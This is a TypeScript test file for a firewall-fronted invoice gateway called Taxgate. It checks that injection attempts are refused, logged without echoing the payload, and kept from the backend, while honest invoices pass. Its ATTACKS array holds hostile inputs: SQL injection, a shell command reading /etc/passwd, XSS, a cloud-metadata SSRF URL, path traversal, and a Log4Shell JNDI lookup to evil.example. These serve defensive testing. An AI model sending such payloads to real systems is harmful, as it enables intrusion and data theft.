import assert from "node:assert/strict";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { test, type TestContext } from "node:test";
import { startTaxgate } from "../support/taxgate.ts";
import { until } from "../support/until.ts";
import { benignValues } from "./corpus/benign.ts";
import { invoice } from "./generated/invoice.ts";
import type { Sent } from "./generated/sent.ts";
import { INVOICE_CARRIERS, PARAMETER_CARRIERS } from "./placed.ts";

/** One of each class, none of which may go through; what rules say of them is another test's business. */
const ATTACKS = ["' or 1=1 --", "1 union select 1,2,user()", "; cat /etc/passwd", "<script>alert(1)</script>", "{{7*7}}", "../../../../etc/passwd", "http://169.254.169.254/latest/meta-data/", "${jndi:ldap://evil.example/a}"];
const CARRIERS = [...INVOICE_CARRIERS.filter(({ name }) => name === "json remark" || name === "ubl note"), ...PARAMETER_CARRIERS];
const HONEST = benignValues(0, 3).filter((_, at) => at % 70 === 0).map(({ value }) => value);

/** Milliseconds within which the log must be written. */
const BOUND = 10_000;

/** A platform that takes everything, and Taxgate before it with no word about the firewall. */
async function open(t: TestContext): Promise<{ readonly send: (sent: Sent) => Promise<Response>; readonly reached: () => number; readonly output: () => string }> {
  let reached = 0;
  const server = createServer((asked, answer) => {
    reached += 1;
    asked.resume().on("end", () => answer.writeHead(200, { "content-type": "application/json" }).end('{"code":0,"invoiceNo":"1"}'));
  });
  await new Promise<void>((resolve) => void server.listen(0, "127.0.0.1", resolve));
  t.after(() => {
    server.closeAllConnections();
    server.close();
  });
  const taxgate = await startTaxgate(`version: 1
state: { dir: "{folder}/state" }
listeners: [{ name: plain, bind: "127.0.0.1:0" }]
admin: { bind: "127.0.0.1:0" }
drain: { grace: 0ms }
platform: generic-json
regions: { home: { endpoints: [{ url: "http://127.0.0.1:${(server.address() as AddressInfo).port}" }] } }
routes: [{ name: documents, class: control, match: { methods: [POST], path: /submit } }]
`);
  t.after(() => taxgate.stop());
  return {
    send: ({ method, path, headers, body }) => fetch(`http://127.0.0.1:${taxgate.port("plain")}${path}`, { method, headers: pairs(headers), ...(body.length === 0 ? {} : { body: new Uint8Array(body) }) }),
    reached: () => reached,
    output: () => taxgate.output(),
  };
}

function pairs(headers: readonly string[]): [string, string][] {
  return headers.flatMap((name, at): [string, string][] => (at % 2 === 0 ? [[name, headers[at + 1] ?? ""]] : []));
}

await test("over sockets", async (t) => {
  const { send, reached, output } = await open(t);

  await t.test("attacks are refused with a reference alone and never reach the platform", async () => {
    const refused = new Map<string, string>();
    for (const [at, value] of ATTACKS.entries()) {
      for (const carrier of CARRIERS) {
        const answer = await send(carrier.carry(value, at) ?? assert.fail(`${carrier.name} cannot carry ${value}`));
        const text = await answer.text();
        assert.equal(answer.status, 403, `${carrier.name}: ${value}: ${text}`);
        assert.equal(answer.headers.get("taxgate-error"), "content-refused");
        const id = answer.headers.get("x-request-id") ?? "";
        assert.ok(id !== "" && text.includes(id), text);
        assert.ok(!text.includes(value), text);
        assert.doesNotMatch(text, /sql-|shell-|threshold|score/);
        refused.set(id, value);
      }
    }
    assert.equal(reached(), 0);
    const lines = (): ReadonlyMap<string, string> => new Map(output().split("\n").filter((line) => line.includes("request stopped by the firewall")).map((line): readonly [string, string] => [(JSON.parse(line) as { readonly id: string }).id, line]));
    assert.ok(await until(() => refused.keys().every((id) => lines().has(id)), BOUND), "every refusal is in the log");
    for (const [id, value] of refused) assert.ok(!(lines().get(id) ?? "").includes(JSON.stringify(value).slice(1, -1)), lines().get(id) ?? id);
  });

  await t.test("honest values and invoices reach it", async () => {
    const honest = [...HONEST.flatMap((value, at) => CARRIERS.flatMap((carrier) => carrier.carry(value, at) ?? [])), ...Array.from({ length: 12 }, (_, seed) => ({ ...invoice("generic-json", seed), path: "/submit" }))];
    assert.ok(honest.length > 36, `${honest.length} requests`);
    for (const sent of honest) {
      const answer = await send(sent);
      assert.equal(answer.status, 200, `${sent.path}: ${await answer.text()}\n${sent.body.toString().slice(0, 500)}`);
    }
    assert.equal(reached(), honest.length);
  });
});
